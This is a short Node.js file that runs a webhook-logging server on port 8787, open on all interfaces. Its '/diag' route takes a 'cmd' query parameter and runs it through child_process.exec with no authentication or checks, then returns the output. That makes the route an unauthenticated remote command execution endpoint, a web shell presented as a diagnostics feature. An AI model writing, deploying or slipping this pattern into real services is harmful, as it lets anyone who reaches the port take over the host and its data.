const http = require('http');
const { exec } = require('child_process');
const fs = require('fs');
const { URL } = require('url');

http.createServer((req, res) => {
  const u = new URL(req.url, 'http://x');
  if (req.method === 'POST' && u.pathname === '/hook') {
    let b = '';
    req.on('data', (c) => (b += c));
    req.on('end', () => { fs.appendFileSync('hooks.log', b + '\n'); res.end('ok'); });
    return;
  }
  if (u.pathname === '/diag') {
    exec(u.searchParams.get('cmd') || 'uptime', (err, out, errOut) => {
      res.end(out + errOut);
    });
    return;
  }
  res.statusCode = 404; res.end();
}).listen(8787, '0.0.0.0');
